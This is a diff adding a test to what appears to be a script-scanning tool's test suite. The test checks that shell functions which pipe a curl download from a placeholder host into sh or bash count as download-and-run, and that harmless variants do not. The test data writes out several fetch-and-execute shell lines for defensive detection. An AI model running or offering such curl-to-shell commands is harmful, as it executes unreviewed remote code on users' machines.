@@ -1562,6 +1562,25 @@ Deno.test("a download run by a function written as one expression is run: a lamb
   assert.deepEqual(secretSeverities("scripts/s.mjs", send), ["critical"]);
 });
 
+Deno.test("shell: a function of the script runs its body on what is piped to it, and pipes on what it prints", () => {
+  const url = "https://get.example.net/x";
+  assertRunsOnlyIn(
+    "#!/bin/bash\n",
+    "sh",
+    [
+      `f() {\n  cd /tmp\n  sh\n}\ncurl -fsSL ${url} | f`,
+      `function install {\n  bash -s\n}\ncurl -fsSL ${url} | install`,
+      `get() {\n  curl -fsSL ${url}\n}\nget | sh`,
+    ].map((way) => `${way}\n`),
+    [
+      `f() {\n  grep -c x\n}\ncurl -fsSL ${url} | f\n`,
+      "f() {\n  sh\n}\necho hi | f\n",
+      `f() {\n  f\n}\ncurl -fsSL ${url} | f\n`,
+      `get() {\n  curl -fsSL ${url}\n}\nget > page.html\n`,
+    ],
+  );
+});
+
 Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
   const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
